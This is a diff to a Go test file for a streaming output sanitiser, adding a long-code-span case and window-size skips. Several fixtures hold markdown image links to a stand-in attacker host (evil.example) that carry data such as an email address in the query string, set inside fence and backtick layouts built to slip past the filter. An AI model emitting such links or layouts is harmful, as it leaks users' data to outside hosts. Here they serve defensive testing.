@@ -14,19 +14,32 @@ import (
 var codeAnswers = []struct {
 	name, text string
 	keep       []string // must reach the client whole
+	long       bool     // a code span longer than a small window: only the larger ones
 }{
 	{"coding answer", "To embed an image in HTML, use an img tag:\n\n```html\n<img src=\"https://example.com/cat.png\" alt=\"cat\">\n<a href=\"https://example.com/docs\">docs</a>\n<script src=\"https://cdn.example.com/app.js\"></script>\n```\n\nIn markdown, write `![cat](https://example.com/cat.png)` or a link such as `[docs](https://example.com/docs)`. " +
 		"That is all there is to it, and the browser fetches the picture when it renders the page. ",
-		[]string{`<img src="https://example.com/cat.png" alt="cat">`, "<script src=\"https://cdn.example.com/app.js\"></script>", "`![cat](https://example.com/cat.png)`", "`[docs](https://example.com/docs)`"}},
+		[]string{`<img src="https://example.com/cat.png" alt="cat">`, "<script src=\"https://cdn.example.com/app.js\"></script>", "`![cat](https://example.com/cat.png)`", "`[docs](https://example.com/docs)`"}, false},
 	{"long span", "For a picture, the whole tag goes in one line, as in `see the docs for this thing here and now, and then read the rest of the page before you add it <img src=\"https://example.com/a.png\">` and that is it for today. ",
-		[]string{`<img src="https://example.com/a.png">`}},
+		[]string{`<img src="https://example.com/a.png">`}, false},
+	{"span among numbers", numbers(100) + "`" + strings.Repeat(`<img src="https://example.com/a.png"> ![c](https://example.com/c.png) `, 3) + "` " + numbers(150),
+		[]string{strings.Repeat(`<img src="https://example.com/a.png"> ![c](https://example.com/c.png) `, 3)}, true},
 	{"unterminated fence", "Here is the start of the page, which the model did not finish writing:\n~~~html\n<img src=\"https://example.com/cat.png\">\n<iframe src=\"https://example.com/x\">",
-		[]string{`<img src="https://example.com/cat.png">`, `<iframe src="https://example.com/x">`}},
+		[]string{`<img src="https://example.com/cat.png">`, `<iframe src="https://example.com/x">`}, false},
 	{"fence after held text", "order 4111111111111111 id " + strings.Repeat("q7", 40) + "\n```\n<img src=\"https://example.com/cat.png\">\n```\nand then ![ok](https://evil.example/p.png?d=1) more prose follows here.",
-		[]string{`<img src="https://example.com/cat.png">`}},
-	{"fence closed early", "Some prose before the code block that is long enough for cuts.\n```\n```\nNow ![ok](https://evil.example/p.png?d=jane.doe@gmail.com) and prose after it.\n```\n", nil},
-	{"indented closer", "Prose before the code block, long enough to be released early.\n  ```\nx\n```\n![ok](https://evil.example/p.png?d=1)\n```\nthe end of it all. ", nil},
-	{"span tricks", "A line with a stray `` run and then ` ![ok](https://evil.example/p.png?d=1) ` in the same paragraph. <a title='`'>t</a> ![ok](https://evil.example/q.png) ` done.", nil},
+		[]string{`<img src="https://example.com/cat.png">`}, false},
+	{"fence closed early", "Some prose before the code block that is long enough for cuts.\n```\n```\nNow ![ok](https://evil.example/p.png?d=jane.doe@gmail.com) and prose after it.\n```\n", nil, false},
+	{"indented closer", "Prose before the code block, long enough to be released early.\n  ```\nx\n```\n![ok](https://evil.example/p.png?d=1)\n```\nthe end of it all. ", nil, false},
+	{"span tricks", "A line with a stray `` run and then ` ![ok](https://evil.example/p.png?d=1) ` in the same paragraph. <a title='`'>t</a> ![ok](https://evil.example/q.png) ` done.", nil, false},
+}
+
+// numbers is text with no early cut (digits are not inert): the stream
+// releases it in full windows.
+func numbers(n int) string {
+	var b strings.Builder
+	for i := range n {
+		fmt.Fprintf(&b, "v%d ", i)
+	}
+	return b.String()
 }
 
 // TestStreamCodeIsNotSanitised: markup in code fences and code spans
@@ -43,6 +56,9 @@ func TestStreamCodeIsNotSanitised(t *testing.T) {
 	r := New(safetyRules, nil)
 	for _, a := range codeAnswers {
 		for i, shape := range []StreamOptions{{}, {Step: 16, Lookahead: 128}, {Step: 200, Lookahead: 300}} {
+			if a.long && shape.Step+shape.Lookahead < 400 {
+				continue // a span longer than a window is not code to the stream (see Stream)
+			}
 			t.Run(fmt.Sprintf("%s/shape%d", a.name, i), func(t *testing.T) {
 				t.Parallel()
 				buffered, _, _ := r.Text(sc, a.text, nil)
